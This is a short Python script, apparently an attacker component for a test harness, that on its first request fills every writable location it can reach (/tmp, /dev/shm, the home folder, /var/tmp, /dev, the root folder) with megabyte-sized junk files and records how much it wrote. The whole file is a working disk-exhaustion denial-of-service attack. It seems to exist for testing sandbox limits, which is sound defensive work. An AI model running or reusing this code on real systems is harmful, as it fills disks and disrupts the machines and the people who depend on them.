"""Fills every place that it can write to, at its first request, and then plays on."""

import os

from attacker import TARGETS, done, play

PIECE = b"x" * (1 << 20)


def fill(folder):
    """How many MB it can write below a folder, in files as large as they may be."""
    written = 0
    for number in range(1000):
        try:
            with open(os.path.join(folder, f"left-by-an-attack-{number}"), "wb", 0) as file:
                for _ in range(TARGETS["files_mb"]):
                    file.write(PIECE)
                    written += 1
        except OSError:
            return written
        if written > 4 * TARGETS["files_mb"]:
            return written
    return written


def each(message):
    if message["id"] > 1:
        return
    for folder in ("/tmp", "/dev/shm", os.environ["HOME"], "/var/tmp", ".", "/dev", "/"):
        written = fill(folder)
        if written > TARGETS["files_mb"]:
            done.append(f"{written} MB in {folder}")


play(each=each)
